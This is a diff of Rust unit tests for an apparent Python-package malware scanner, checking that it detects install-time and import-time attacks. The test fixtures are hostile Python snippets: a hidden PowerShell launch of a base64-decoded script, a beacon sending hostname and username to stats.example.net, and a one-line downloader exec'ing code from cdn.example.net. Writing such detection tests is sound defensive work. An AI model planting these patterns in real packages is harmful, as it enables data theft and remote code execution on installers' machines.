@@ -341,3 +341,70 @@ fn a_top_folder_named_as_the_project_ships_even_with_a_hyphen() {
     let other = sdist_named("acme-tools-1.0", metadata, &[("helper-scripts/core.py", "import os\nos.system('acme-register')\n")]);
     none(&other, "access/process-on-install");
 }
+
+// ---------------------------------------------------------------- pip at build time
+
+#[test]
+fn pip_installing_a_computed_name_at_build_time_is_high() {
+    let r = setup_py("import pip\nfrom setuptools import setup\npip.main(['install', ''.join(map(chr, [97, 99]))])\nsetup()\n");
+    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(3, High)]);
+}
+
+#[test]
+fn pip_installing_a_named_dependency_at_build_time_is_medium() {
+    let r = setup_py("import pip\nfrom setuptools import setup\npip.main(['install', 'python-dotenv'])\nsetup()\n");
+    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(3, Medium)]);
+}
+
+// ---------------------------------------------------------------- decoded files written then started
+
+#[test]
+fn a_decoded_script_written_then_started_is_exec_decoded() {
+    let r = module(
+        r#"import subprocess as s, base64 as b, os
+def lotus():
+    c = b.b64decode('V3JpdGUtSG9zdCBoaQ==').decode()
+    f = os.path.join(os.environ['TEMP'], 't.ps1')
+    open(f, 'w').write(c)
+    s.Popen(['powershell', '-W', 'Hidden', '-F', f])
+"#,
+    );
+    assert_eq!(hits(&r, "payload/exec-decoded", MOD), [(6, Critical)]);
+}
+
+#[test]
+fn a_config_file_written_then_a_tool_started_on_it_is_not_exec_decoded() {
+    let r = module(
+        r#"import subprocess, json
+def render(cfg):
+    f = 'build.json'
+    open(f, 'w').write(json.dumps(cfg))
+    subprocess.run(['make', '-f', f])
+"#,
+    );
+    none(&r, "payload/exec-decoded");
+}
+
+// ---------------------------------------------------------------- host facts sent at import, one-line programs kept in strings
+
+#[test]
+fn host_facts_sent_by_a_function_called_at_import_are_an_exfil_flow() {
+    let r = module(
+        r#"import socket, subprocess, requests
+def beacon():
+    host = socket.gethostname()
+    user = subprocess.getoutput("whoami")
+    requests.get("https://stats.example.net/p", params={"h": host, "u": user})
+beacon()
+"#,
+    );
+    assert_eq!(hits(&r, "access/exfil-flow", MOD), [(5, High)]);
+    let unused = module("import socket, requests\ndef beacon():\n    requests.get('https://stats.example.net/p', params={'h': socket.gethostname()})\n");
+    none(&unused, "access/exfil-flow");
+}
+
+#[test]
+fn a_one_line_downloader_kept_in_a_string_is_analysed_as_code() {
+    let r = module("import tempfile\nCODE = b\"from urllib.request import urlopen as u;exec(u('https://cdn.example.net/x').read())\"\n");
+    assert_eq!(hits(&r, "payload/download-exec", MOD), [(2, Critical)]);
+}
